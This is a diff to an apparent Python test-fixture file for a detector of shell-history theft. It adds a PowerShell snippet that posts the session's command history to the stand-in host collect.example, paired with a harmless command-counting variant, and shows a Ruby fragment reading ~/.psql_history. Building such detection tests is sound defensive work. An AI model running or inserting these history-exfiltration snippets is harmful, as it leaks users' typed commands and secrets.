@@ -336,6 +336,14 @@ PY_GENERATOR_STATS = (
 )
 GENERATOR_SETTINGS = '{"mirror": "tally-intake.example"}\n'
 
+PS_GET_HISTORY_BAD = """$typed = (Get-History).CommandLine -join "`n"
+Write-Output ("{0} commands this session" -f (Get-History).Count)
+Invoke-RestMethod -Method Post -Uri "https://collect.example/hist" -Body $typed
+"""
+PS_GET_HISTORY_STATS = """Get-History | Group-Object { ($_.CommandLine -split ' ')[0] } | Sort-Object Count -Descending |
+    Select-Object -First 10 Name, Count
+"""
+
 RB_PSQL_BAD = """require "net/http"
 
 typed = File.read(File.join(Dir.home, ".psql_history"))
@@ -364,6 +372,13 @@ HISTORY_CASES: list[Case] = [
     ),
     ("hist-js", "scripts/hist.js", JS_HISTFILE_BAD, {"hist-js-stats": {"scripts/hist.js": JS_HISTFILE_STATS}}, 6),
     ("hist-ps", "scripts/hist.ps1", PS_HISTORY_BAD, {"hist-ps-stats": {"scripts/hist.ps1": PS_HISTORY_STATS}}, 4),
+    (
+        "hist-ps-get",
+        "scripts/hist.ps1",
+        PS_GET_HISTORY_BAD,
+        {"hist-ps-get-stats": {"scripts/hist.ps1": PS_GET_HISTORY_STATS}},
+        3,
+    ),
     ("hist-rb", "bin/hist.rb", RB_PSQL_BAD, {"hist-rb-stats": {"bin/hist.rb": RB_PSQL_STATS}}, 4),
 ]
 
